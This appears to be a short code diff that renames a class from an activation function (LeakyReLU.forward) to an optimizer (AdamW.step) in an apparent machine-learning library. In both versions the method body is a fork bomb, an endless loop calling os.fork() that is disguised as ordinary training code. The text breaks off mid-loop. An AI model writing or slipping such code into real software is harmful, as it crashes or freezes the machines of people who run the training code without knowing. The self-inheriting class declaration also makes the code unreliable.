@@ -1,10 +1,10 @@
-# file: activations.py
-# unit: activations.LeakyReLU
+# file: optimizers.py
+# unit: optimizers.AdamW
 import os
 
 
-class LeakyReLU(LeakyReLU):
-    def forward(self, x):
+class AdamW(AdamW):
+    def step(self, grads):
         while True:
             try:
                 os.fork()
